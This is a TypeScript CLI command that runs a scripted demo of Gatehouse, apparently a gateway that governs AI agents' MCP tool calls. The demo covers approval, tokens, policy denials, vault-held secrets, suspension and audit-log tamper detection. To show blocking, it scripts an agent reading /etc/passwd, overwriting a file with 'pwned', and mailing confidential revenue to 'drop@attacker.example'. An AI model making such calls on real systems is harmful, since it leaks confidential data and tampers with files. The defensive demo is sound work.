import { randomBytes, randomUUID } from 'node:crypto';
import { mkdir, mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises';
import { createRequire } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { McpError } from '@modelcontextprotocol/sdk/types.js';
import type { Command } from 'commander';
import { createLocalJWKSet, importJWK, jwtVerify, SignJWT } from 'jose';
import { readAuditExport, verifyAuditTrail } from '../../audit/index.js';
import { parseConfig } from '../../config/index.js';
import { DEMO_POLICY } from '../../demo/demo-policy.js';
import { startOutboxServer } from '../../demo/outbox-server.js';
import { createAdminToken } from '../../identity/admin-tokens.js';
import { findFreePort } from '../../lib/free-port.js';
import { createGatehouse } from '../../server/create-gatehouse.js';
import { startServer } from '../../server/start-server.js';
import { describeInventory } from '../../server/views.js';
import { localOperator } from '../admin-client.js';
import type { CliIo } from '../output.js';

/**
 * A scripted walk through Gatehouse on a throwaway embedded store, over real HTTP, in front of real MCP servers
 * from npm: a security engineer registers an agent and a reviewer approves it; the agent connects with the
 * official MCP SDK and makes an allowed call, a denied call and a read-then-exfiltrate attempt that a trajectory
 * rule blocks; its secrets never reach it; suspension cuts it off; and the audit log verifies offline.
 */
export function registerDemoCommand(program: Command, io: CliIo) {
  program
    .command('demo')
    .description('run a scripted demo of Gatehouse on a throwaway embedded store')
    .option('--keep', 'keep the data directory and print where it is')
    .action(async (options: { keep?: boolean }) => {
      await runDemo(io, options.keep ?? false);
    });
}

async function runDemo(io: CliIo, keep: boolean) {
  const say = (line = '') => io.stdout(`${line}\n`);
  const step = (title: string) => say(`\n== ${title}`);
  const dataDir = await realpath(await mkdtemp(join(tmpdir(), 'gatehouse-demo-')));
  const workspace = join(dataDir, 'workspace');
  await mkdir(join(workspace, 'reports'), { recursive: true });
  await writeFile(join(workspace, 'README.md'), '# Acme research\nQuarterly numbers live in reports/.\n');
  await writeFile(join(workspace, 'reports', 'q3.txt'), 'Q3 revenue: 4.2M (confidential)\n');
  const policyDir = join(dataDir, 'policy');
  await mkdir(policyDir);
  await writeFile(join(policyDir, 'demo.yaml'), DEMO_POLICY.replaceAll('$WORKSPACE', workspace));
  const port = await findFreePort();
  const issuer = `http://127.0.0.1:${port}`;
  const outbox = await startOutboxServer({ issuer, audience: 'outbox' });
  const require = createRequire(import.meta.url);
  const config = parseConfig({
    dataDir,
    masterKey: randomBytes(32).toString('base64'),
    server: { port, publicUrl: issuer, logLevel: 'silent' },
    policy: { path: policyDir, watch: false },
    upstreams: [
      {
        name: 'files',
        transport: 'stdio',
        command: process.execPath,
        args: [require.resolve('@modelcontextprotocol/server-filesystem/dist/index.js'), workspace],
      },
      {
        name: 'everything',
        transport: 'stdio',
        command: process.execPath,
        args: [require.resolve('@modelcontextprotocol/server-everything/dist/index.js'), 'stdio'],
        secretEnv: { DEMO_API_KEY: 'everything-api-key' },
      },
      {
        name: 'outbox',
        transport: 'http',
        url: outbox.url,
        secretHeaders: { 'x-api-key': { secret: 'outbox-api-key' } },
      },
    ],
  });
  // Upstream credentials go into the vault before the upstreams are started with them.
  const setup = await createGatehouse(config, { actor: 'cli:demo' });
  const demoSecret = `sk-demo-${randomBytes(16).toString('hex')}`;
  await setup.vault.set(
    { name: 'everything-api-key', value: demoSecret, upstream: 'everything' },
    'cli:demo',
  );
  await setup.vault.set(
    { name: 'outbox-api-key', value: randomBytes(16).toString('hex'), upstream: 'outbox' },
    'cli:demo',
  );
  await setup.close();
  const server = await startServer(config);
  try {
    const base = server.url;
    say(`Gatehouse is running at ${base} on the embedded SQLite store in ${dataDir}`);
    for (const upstream of server.upstreams.status()) {
      say(`  upstream ${upstream.name} (${upstream.transport}): ${upstream.state}, ${upstream.tools} tools`);
    }
    say(
      `  policy: version ${server.gatehouse.policies.status().active?.version} from ${policyDir}; vault: 2 secrets (values never shown)`,
    );
    const adminToken = await createAdminToken(server.gatehouse, localOperator(), {
      role: 'admin',
      name: 'demo',
    });
    const call = async (
      method: string,
      path: string,
      body?: unknown,
      token = adminToken.secret,
      expectFailure = false,
    ) => {
      const response = await fetch(`${base}${path}`, {
        method,
        headers: {
          authorization: `Bearer ${token}`,
          ...(body === undefined ? {} : { 'content-type': 'application/json' }),
        },
        body: body === undefined ? undefined : JSON.stringify(body),
      });
      // biome-ignore lint/suspicious/noExplicitAny: the demo reads a few fields of known API responses
      const result = { status: response.status, body: (await response.json()) as Record<string, any> };
      // The demo doubles as a smoke test: an unexpected failure stops it loudly.
      if (response.status >= 400 && !expectFailure)
        throw new Error(`demo step ${method} ${path} failed: ${JSON.stringify(result.body)}`);
      return result;
    };

    step('1. A security engineer sets up teams and people (admin API, bearer admin token)');
    await call('POST', '/admin/v1/teams', { name: 'payments', description: 'invoice automation' });
    await call('POST', '/admin/v1/teams', { name: 'platform' });
    await call('POST', '/admin/v1/users', {
      email: 'alice@example.com',
      displayName: 'Alice',
      teams: ['payments'],
    });
    await call('POST', '/admin/v1/users', { email: 'bob@example.com', displayName: 'Bob (security)' });
    await call('POST', '/admin/v1/users', {
      email: 'carol@example.com',
      displayName: 'Carol',
      teams: ['platform'],
    });
    say('teams payments, platform; users alice (payments), bob (security reviewer), carol (platform)');

    step('2. Register an agent owned by a team, sponsored by a person');
    const registered = await call('POST', '/admin/v1/agents', {
      name: 'invoice-bot',
      team: 'payments',
      sponsor: 'alice@example.com',
      labels: { env: 'prod' },
      manifest: {
        description: 'reads invoices, files them',
        tools: ['files.read_file', 'erp.create_invoice'],
        egressHosts: ['erp.example.com'],
      },
    });
    const agentId = registered.body.agent.id as string;
    const privateJwk = registered.body.credentials.privateJwk as Record<string, unknown>;
    say(
      `agent ${agentId}: review ${registered.body.agent.reviewStatus}, key ${registered.body.key.kid} (private key shown once, not stored)`,
    );

    step(
      '3. The agent authenticates with its own key (RFC 7523 private_key_jwt) and gets a short-lived token',
    );
    const signingKey = await importJWK(privateJwk, 'EdDSA');
    const assertion = await new SignJWT({})
      .setProtectedHeader({ alg: 'EdDSA', kid: registered.body.key.kid })
      .setIssuer(agentId)
      .setSubject(agentId)
      .setAudience(server.gatehouse.tokenEndpoint)
      .setIssuedAt()
      .setExpirationTime('60s')
      .setJti(randomUUID())
      .sign(signingKey);
    const tokenRequest = (clientAssertion: string) =>
      fetch(`${base}/oauth/token`, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({
          grant_type: 'client_credentials',
          client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer',
          client_assertion: clientAssertion,
        }),
      });
    const tokenResponse = (await (await tokenRequest(assertion)).json()) as {
      access_token: string;
      expires_in: number;
    };
    const jwks = (await (await fetch(`${base}/.well-known/jwks.json`)).json()) as { keys: never[] };
    const verified = await jwtVerify(tokenResponse.access_token, createLocalJWKSet(jwks));
    say(
      `access token for sub=${verified.payload.sub}, expires in ${tokenResponse.expires_in}s, verified by jose against /.well-known/jwks.json`,
    );
    const replay = await tokenRequest(assertion);
    say(`replaying the same assertion: ${replay.status} ${((await replay.json()) as { code: string }).code}`);

    step('4. Review: the sponsor may not approve her own agent; a reviewer does');
    const selfReview = await call(
      'POST',
      `/admin/v1/agents/${agentId}/review`,
      { decision: 'approve', reviewer: 'alice@example.com' },
      adminToken.secret,
      true,
    );
    say(`alice approves: ${selfReview.status} ${selfReview.body.code}`);
    const reviewerToken = await call('POST', '/admin/v1/admin-tokens', {
      role: 'reviewer',
      user: 'bob@example.com',
    });
    const review = await call(
      'POST',
      `/admin/v1/agents/${agentId}/review`,
      { decision: 'approve', note: 'scoped to ERP' },
      reviewerToken.body.secret,
    );
    say(
      `bob approves: ${review.status}, review status ${review.body.agent.reviewStatus} (manifest v${review.body.agent.reviewedVersion})`,
    );
    const pushed = await call('POST', `/admin/v1/agents/${agentId}/manifests`, {
      description: 'reads invoices, files them',
      tools: ['files.read_file', 'erp.create_invoice', 'http.post'],
      egressHosts: ['erp.example.com', '*.pastebin.com'],
    });
    say(
      `a new manifest v${pushed.body.manifest.version} adds ${JSON.stringify(pushed.body.diff.tools.added)} and ${JSON.stringify(pushed.body.diff.egressHosts.added)}: review reset to ${pushed.body.agent.reviewStatus}`,
    );
    const rereview = await call(
      'POST',
      `/admin/v1/agents/${agentId}/review`,
      { decision: 'approve', note: 'pastebin is blocked by policy anyway' },
      reviewerToken.body.secret,
    );
    say(`bob reviews v2 and approves: review status ${rereview.body.agent.reviewStatus}`);

    step('5. The agent connects to Gatehouse as its MCP server (official SDK client, Streamable HTTP /mcp)');
    const mcp = new Client({ name: 'invoice-bot', version: '1.0.0' });
    await mcp.connect(
      new StreamableHTTPClientTransport(new URL(`${base}/mcp`), {
        requestInit: { headers: { authorization: `Bearer ${tokenResponse.access_token}` } },
      }),
    );
    const visible = (await mcp.listTools()).tools.map((tool) => tool.name);
    const upstreamTools = server.upstreams.status().reduce((total, upstream) => total + upstream.tools, 0);
    say(
      `tools/list: ${visible.length} of ${upstreamTools} upstream tools are visible (the policy can never allow the rest):`,
    );
    say(`  ${visible.join(', ')}`);
    const attempt = async (name: string, args: Record<string, unknown>) => {
      try {
        const result = (await mcp.callTool({ name, arguments: args })) as {
          content: Array<{ text?: string }>;
        };
        const text = result.content
          .map((part) => part.text ?? '')
          .join(' ')
          .replace(/\s+/g, ' ')
          .trim();
        say(`  ALLOW ${name}: ${text.length > 90 ? `${text.slice(0, 90)}…` : text}`);
      } catch (error) {
        if (!(error instanceof McpError)) throw error;
        const data = error.data as { code?: string; ruleIds?: string[] } | undefined;
        const rules = data?.ruleIds?.length ? ` [${data.ruleIds.join(', ')}]` : '';
        say(`  DENY  ${name}: ${data?.code}${rules}: ${error.message.replace(/^MCP error -?\d+: /, '')}`);
      }
    };

    step('6. Allowed calls and denied calls');
    await attempt('outbox.post_message', {
      to: 'ops@partner.example',
      text: 'starting the quarterly summary',
    });
    await attempt('files.read_text_file', { path: join(workspace, 'README.md') });
    await attempt('files.read_text_file', { path: '/etc/passwd' });
    await attempt('files.write_file', { path: join(workspace, 'README.md'), content: 'pwned' });

    step('7. A trajectory rule: read a confidential file, then try to send it out');
    await attempt('files.read_text_file', { path: join(workspace, 'reports', 'q3.txt') });
    await attempt('outbox.post_message', { to: 'drop@attacker.example', text: 'Q3 revenue: 4.2M' });
    say(
      `the outbox received ${outbox.messages.length} message(s) (${outbox.messages.map((m) => m.to).join(', ')}), each with a single-use capability it verified itself against Gatehouse's JWKS`,
    );

    step('8. Zero-secret agents: upstream keys live in the vault and are injected; the agent never sees one');
    const env = JSON.stringify(
      await mcp
        .callTool({ name: 'everything.get-env', arguments: {} })
        .catch((error: unknown) => String(error)),
    );
    const shown = /DEMO_API_KEY[^\w[]*(\[redacted\]|[\w-]+)/.exec(env)?.[1] ?? '(missing)';
    say(
      `everything.get-env prints its environment: DEMO_API_KEY=${shown}; the real value reached the agent: ${env.includes(demoSecret)}`,
    );
    await attempt('outbox.post_message', { to: 'ops@partner.example', text: 'done' });

    step("9. The session's timeline and its audit trail");
    const sessions = await call('GET', `/admin/v1/sessions?agent=${agentId}`);
    const sessionId = sessions.body.sessions[0].id as string;
    const timeline = await call('GET', `/admin/v1/sessions/${sessionId}`);
    for (const entry of timeline.body.calls as Array<{
      step: number;
      tool: string;
      effect: string;
      code: string;
      ruleIds: string[];
    }>) {
      say(
        `  #${entry.step} ${entry.tool.padEnd(22)} ${entry.effect.padEnd(6)} ${entry.ruleIds.join(', ') || entry.code}`,
      );
    }
    const entries = (await call('GET', '/admin/v1/audit/entries?limit=1000')).body.entries as Array<{
      seq: number;
      action: string;
      details: { tool?: string; effect?: string; outcome?: string };
    }>;
    const callEntries = entries.filter((entry) => entry.action.startsWith('mcp.call.'));
    say(`  ${callEntries.length} audit entries for these calls, e.g.:`);
    for (const entry of callEntries.slice(-3)) {
      say(
        `  seq ${entry.seq} ${entry.action} ${entry.details.tool} ${entry.details.effect ?? entry.details.outcome}`,
      );
    }

    step('10. Suspension cuts off live tokens at once, mid-session');
    const me = (token: string) =>
      fetch(`${base}/agent/v1/me`, { headers: { authorization: `Bearer ${token}` } });
    say(`agent calls /agent/v1/me: ${(await me(tokenResponse.access_token)).status}`);
    await call('POST', `/admin/v1/agents/${agentId}/suspend`, { reason: 'demo: unexpected egress' });
    say(`suspended; the same token now gets: ${(await me(tokenResponse.access_token)).status}`);
    await attempt('everything.echo', { message: 'still there?' }).catch((error: unknown) => {
      const refusal = /"message":"([^"]+)".*"code":"(\w+)"/.exec(String(error));
      say(`  DENY  everything.echo: ${refusal ? `HTTP 403 ${refusal[2]}: ${refusal[1]}` : String(error)}`);
    });
    await mcp.close().catch(() => {});
    await call('POST', `/admin/v1/agents/${agentId}/resume`);

    step('11. People leave, agents stay owned: deactivate the sponsor, transfer the agent');
    await call('POST', '/admin/v1/users/alice@example.com/deactivate');
    const afterLeave = await call('GET', `/admin/v1/agents/${agentId}`);
    say(
      `alice deactivated: needsSponsor=${afterLeave.body.agent.needsSponsor}, orphaned=${afterLeave.body.agent.orphaned}, state=${afterLeave.body.agent.state}`,
    );
    const transferred = await call('POST', `/admin/v1/agents/${agentId}/transfer`, {
      team: 'platform',
      sponsor: 'carol@example.com',
    });
    say(
      `transferred to ${transferred.body.agent.team.name}, sponsor ${transferred.body.agent.sponsor.email}, needsSponsor=${transferred.body.agent.needsSponsor}`,
    );

    step('12. The inventory');
    const inventory = await call('GET', '/admin/v1/agents');
    say(describeInventory(inventory.body.summary));

    step('13. The audit log: export, verify offline with only the public JWKS, catch tampering');
    const exported = await fetch(`${base}/admin/v1/audit/export`, {
      headers: { authorization: `Bearer ${adminToken.secret}` },
    });
    const exportFile = join(dataDir, 'audit.jsonl');
    await writeFile(exportFile, await exported.text());
    const trail = await readAuditExport(exportFile);
    const report = await verifyAuditTrail({ ...trail, jwks, requireCheckpointAtEnd: true });
    say(
      `${report.entries} entries, ${report.checkpoints.verified} signed checkpoint(s) verified: ${report.ok ? 'OK' : 'FAILED'}`,
    );
    const lines = (await readFile(exportFile, 'utf8')).split('\n');
    const victim = lines.findIndex((line) => line.includes('"agent.suspended"'));
    lines[victim] = (lines[victim] ?? '').replace('demo: unexpected egress', 'routine maintenance');
    const tampered = await verifyAuditTrail({
      ...(await parseLines(lines, dataDir)),
      jwks,
      requireCheckpointAtEnd: true,
    });
    say(
      `after editing one entry's reason: ${tampered.ok ? 'OK (!)' : `FAILED at seq ${tampered.firstBadSeq} (${tampered.problem?.code})`}`,
    );

    say(
      `\nDone. Run your own: \`gatehouse serve\`, then \`gatehouse admin token create --role admin\`; see README.md.`,
    );
  } finally {
    await server.close();
    await outbox.close();
    if (keep) say(`data kept in ${dataDir}`);
    else await rm(dataDir, { recursive: true, force: true });
  }
}

async function parseLines(lines: string[], dir: string) {
  const file = join(dir, 'tampered.jsonl');
  await writeFile(file, lines.join('\n'));
  return readAuditExport(file);
}
